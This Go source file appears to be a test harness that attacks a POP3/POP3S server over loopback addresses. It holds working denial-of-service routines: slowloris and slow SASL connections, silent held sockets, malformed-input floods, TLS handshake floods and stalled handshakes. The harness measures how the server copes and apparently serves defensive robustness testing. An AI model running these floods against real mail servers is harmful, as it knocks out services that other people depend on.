package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// target is the server under attack and where the attack comes from.
type target struct {
	plain    string        // POP3 host:port (USER/PASS allowed, or STLS offered)
	implicit string        // POP3S host:port; "" skips the implicit-TLS attacks
	sources  []net.IP      // client addresses, used in turn (127.0.0.0/8)
	timeout  time.Duration // deadline of each exchange of the attack
	next     atomic.Uint64
}

// dial connects to addr from the next source address.
func (t *target) dial(addr string) (net.Conn, error) {
	d := net.Dialer{Timeout: t.timeout}
	if len(t.sources) > 0 {
		ip := t.sources[int(t.next.Add(1)-1)%len(t.sources)]
		d.LocalAddr = &net.TCPAddr{IP: ip}
	}
	return d.Dial("tcp", addr)
}

// sources returns n loopback addresses from 127.0.10.1 on (127.0.0.1, the
// usual address of a normal client, is left out).
func sources(n int) []net.IP {
	var ips []net.IP
	for i := 0; i < n; i++ {
		ips = append(ips, net.IPv4(127, 0, byte(10+i/254), byte(1+i%254)))
	}
	return ips
}

// holdStats counts connections that are opened and held (slowloris, silent,
// TLS stalls) until the server closes them or the hold ends.
type holdStats struct {
	opened       atomic.Int64
	dialFailed   atomic.Int64
	serverClosed atomic.Int64
	stillOpen    atomic.Int64
	firstErr     atomic.Value
	mu           sync.Mutex
	closeAfter   []time.Duration // time from connect to the server's close
}

func (h *holdStats) fail(err error) {
	h.dialFailed.Add(1)
	h.firstErr.CompareAndSwap(nil, err.Error())
}

func (h *holdStats) String() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	var maxClose time.Duration
	for _, d := range h.closeAfter {
		maxClose = max(maxClose, d)
	}
	s := fmt.Sprintf("opened=%d dial_failed=%d server_closed=%d still_open=%d max_time_to_close=%s",
		h.opened.Load(), h.dialFailed.Load(), h.serverClosed.Load(), h.stillOpen.Load(), fmtDur(maxClose))
	if e, ok := h.firstErr.Load().(string); ok {
		s += fmt.Sprintf(" first_error=%q", e)
	}
	return s
}

// hold keeps c open until the server closes it or stop is closed, calling
// tick every interval (slowloris writes a byte there); ready is called
// once c is open.
func (h *holdStats) hold(c net.Conn, start time.Time, stop <-chan struct{}, interval time.Duration, tick func() error) {
	h.opened.Add(1)
	closed := make(chan struct{})
	go func() {
		// Whatever the server sends is read and dropped; EOF or a reset is
		// its close.
		io.Copy(io.Discard, c)
		close(closed)
	}()
	var tc <-chan time.Time
	if tick != nil {
		t := time.NewTicker(interval)
		defer t.Stop()
		tc = t.C
	}
	for {
		select {
		case <-closed:
			h.serverClosed.Add(1)
			h.mu.Lock()
			h.closeAfter = append(h.closeAfter, time.Since(start))
			h.mu.Unlock()
			c.Close()
			return
		case <-stop:
			h.stillOpen.Add(1)
			c.Close()
			<-closed
			return
		case <-tc:
			if err := tick(); err != nil {
				// The write failed: the server has closed; the reader sees it.
				tc = nil
			}
		}
	}
}

// slowloris opens n connections that send "USER " and then one byte every
// interval, never a line end, until stop or the server closes them.
func slowloris(t *target, n int, interval time.Duration, stop <-chan struct{}, h *holdStats, opened *sync.WaitGroup) *sync.WaitGroup {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		c, err := t.dial(t.plain)
		if err != nil {
			h.fail(err)
			opened.Done()
			continue
		}
		wg.Add(1)
		start := time.Now()
		c.Write([]byte("USER "))
		opened.Done()
		go func() {
			defer wg.Done()
			h.hold(c, start, stop, interval, func() error {
				c.SetWriteDeadline(time.Now().Add(t.timeout))
				_, err := c.Write([]byte{'a'})
				return err
			})
		}()
	}
	return &wg
}

// saslSlow opens n connections that send "AUTH PLAIN " and 16 KiB of
// base64 at once, then one more octet every interval, never a line end: a
// SASL initial response (up to 32 KiB, RFC 5034 §4) the server must hold
// while it arrives, unless its cap on such lines refuses it.
func saslSlow(t *target, n int, interval time.Duration, stop <-chan struct{}, h *holdStats, opened *sync.WaitGroup) *sync.WaitGroup {
	head := append([]byte("AUTH PLAIN "), bytes.Repeat([]byte{'A'}, 16<<10)...)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		c, err := t.dial(t.plain)
		if err != nil {
			h.fail(err)
			opened.Done()
			continue
		}
		wg.Add(1)
		start := time.Now()
		c.SetWriteDeadline(time.Now().Add(t.timeout))
		c.Write(head)
		opened.Done()
		go func() {
			defer wg.Done()
			h.hold(c, start, stop, interval, func() error {
				c.SetWriteDeadline(time.Now().Add(t.timeout))
				_, err := c.Write([]byte{'A'})
				return err
			})
		}()
	}
	return &wg
}

// silent opens n connections that never send anything.
func silent(t *target, n int, stop <-chan struct{}, h *holdStats, opened *sync.WaitGroup) *sync.WaitGroup {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		c, err := t.dial(t.plain)
		if err != nil {
			h.fail(err)
			opened.Done()
			continue
		}
		wg.Add(1)
		start := time.Now()
		opened.Done()
		go func() { defer wg.Done(); h.hold(c, start, stop, 0, nil) }()
	}
	return &wg
}

// garbageKinds are the malformed inputs of the garbage attack.
var garbageKinds = []string{"longline", "binary", "nul", "utf8", "authb64", "pipeline"}

// garbagePayload is what a garbage connection of kind writes (in one
// write) after the greeting, and how many answer lines a server that
// answers every complete line would send.
func garbagePayload(kind string) ([]byte, int) {
	switch kind {
	case "longline": // RFC 2449 §4: lines are at most 255 octets
		return append(append([]byte("USER "), bytes.Repeat([]byte("a"), 1<<20)...), "\r\nQUIT\r\n"...), 2
	case "binary":
		b := make([]byte, 64<<10)
		rand.Read(b)
		return append(b, "\r\nQUIT\r\n"...), 1
	case "nul":
		return []byte("USER a\x00b\r\n\x00\x00\x00\r\nPASS \x00\r\nQUIT\r\n"), 4
	case "utf8":
		return []byte("USER \xff\xfe\xc3\x28\xed\xa0\x80\r\nPASS \xc0\xaf\r\nQUIT\r\n"), 3
	case "authb64": // a SASL PLAIN response of 1 MiB of base64
		return append(append([]byte("AUTH PLAIN\r\n"), base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0}, 3<<18))...), "\r\nQUIT\r\n"...), 3
	case "pipeline": // 10,000 commands in one write
		return append(bytes.Repeat([]byte("USER pipelined\r\n"), 10000), "QUIT\r\n"...), 10001
	}
	panic("unknown garbage kind " + kind)
}

// garbageStats counts the outcomes of garbage connections of one kind.
type garbageStats struct {
	conns, dialFailed, gotErr, closed, noAnswer atomic.Int64
	lines                                       atomic.Int64 // answer lines read in all
}

func (g *garbageStats) String() string {
	return fmt.Sprintf("conns=%d dial_failed=%d answered_err=%d closed_by_server=%d neither=%d answer_lines=%d",
		g.conns.Load(), g.dialFailed.Load(), g.gotErr.Load(), g.closed.Load(), g.noAnswer.Load(), g.lines.Load())
}

// garbage runs n connections of kind, c at a time. Each reads the
// greeting, writes the payload while reading every answer, and ends when
// the server closes or answers nothing for the timeout.
func garbage(t *target, kind string, n, conc int) *garbageStats {
	g := &garbageStats{}
	payload, _ := garbagePayload(kind)
	sem := make(chan struct{}, conc)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			c, err := t.dial(t.plain)
			if err != nil {
				g.dialFailed.Add(1)
				return
			}
			defer c.Close()
			g.conns.Add(1)
			go func() {
				c.SetWriteDeadline(time.Now().Add(t.timeout))
				c.Write(payload)
			}()
			r := bufio.NewReader(c)
			sawErr := false
			for {
				c.SetReadDeadline(time.Now().Add(t.timeout))
				l, err := r.ReadSlice('\n')
				if err == bufio.ErrBufferFull {
					continue
				}
				if err != nil {
					switch {
					case errors.Is(err, os.ErrDeadlineExceeded):
						g.noAnswer.Add(1)
					default:
						g.closed.Add(1)
					}
					break
				}
				g.lines.Add(1)
				if bytes.HasPrefix(l, []byte("-ERR")) {
					sawErr = true
				}
			}
			if sawErr {
				g.gotErr.Add(1)
			}
		}()
	}
	wg.Wait()
	return g
}

// tlsFloodStats counts handshakes of a flood.
type tlsFloodStats struct {
	attempts, ok, failed atomic.Int64
	elapsed              time.Duration
	firstErr             atomic.Value
}

func (f *tlsFloodStats) String() string {
	s := fmt.Sprintf("handshakes=%d ok=%d failed=%d elapsed=%s handshakes/s=%.0f",
		f.attempts.Load(), f.ok.Load(), f.failed.Load(), fmtDur(f.elapsed), float64(f.ok.Load())/f.elapsed.Seconds())
	if e, ok := f.firstErr.Load().(string); ok {
		s += fmt.Sprintf(" first_error=%q", e)
	}
	return s
}

// tlsFlood runs n complete TLS handshakes, conc at a time, each closed at
// once: on the implicit port (starttls false) or after STLS on the plain
// port.
func tlsFlood(t *target, starttls bool, n, conc int) *tlsFloodStats {
	f := &tlsFloodStats{}
	start := time.Now()
	sem := make(chan struct{}, conc)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			f.attempts.Add(1)
			if err := handshakeOnce(t, starttls); err != nil {
				f.failed.Add(1)
				f.firstErr.CompareAndSwap(nil, err.Error())
				return
			}
			f.ok.Add(1)
		}()
	}
	wg.Wait()
	f.elapsed = time.Since(start)
	return f
}

func handshakeOnce(t *target, starttls bool) error {
	addr := t.implicit
	if starttls {
		addr = t.plain
	}
	c, err := t.dial(addr)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(t.timeout))
	if starttls {
		if err := stls(c); err != nil {
			return err
		}
	}
	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: "localhost"}) // an attacker verifies nothing
	return tc.Handshake()
}

// stls reads the greeting, sends STLS and reads its +OK, one octet at a
// time so that nothing of the TLS stream is consumed.
func stls(c net.Conn) error {
	readLine := func() (string, error) {
		var b []byte
		one := make([]byte, 1)
		for len(b) < 512 {
			if _, err := c.Read(one); err != nil {
				return string(b), err
			}
			b = append(b, one[0])
			if one[0] == '\n' {
				return string(b), nil
			}
		}
		return string(b), errors.New("line too long")
	}
	if l, err := readLine(); err != nil || !strings.HasPrefix(l, "+OK") {
		return fmt.Errorf("greeting %q: %v", l, err)
	}
	if _, err := c.Write([]byte("STLS\r\n")); err != nil {
		return err
	}
	if l, err := readLine(); err != nil || !strings.HasPrefix(l, "+OK") {
		return fmt.Errorf("STLS: %q %v", l, err)
	}
	return nil
}

// tlsStall opens n connections that start a TLS handshake and stop in the
// middle: on the implicit port the first 5 octets of a ClientHello record,
// after STLS nothing at all. They are held until the server closes them
// (it should, at login_timeout) or stop.
func tlsStall(t *target, starttls bool, n int, stop <-chan struct{}, h *holdStats, opened *sync.WaitGroup) *sync.WaitGroup {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		addr := t.implicit
		if starttls {
			addr = t.plain
		}
		c, err := t.dial(addr)
		if err == nil && starttls {
			c.SetDeadline(time.Now().Add(t.timeout))
			err = stls(c)
			c.SetDeadline(time.Time{})
		}
		if err != nil {
			if c != nil {
				c.Close()
			}
			h.fail(err)
			opened.Done()
			continue
		}
		start := time.Now()
		if !starttls {
			c.Write([]byte{0x16, 0x03, 0x01, 0x02, 0x00}) // a handshake record of 512 octets, never sent
		}
		wg.Add(1)
		opened.Done()
		go func() { defer wg.Done(); h.hold(c, start, stop, 0, nil) }()
	}
	return &wg
}
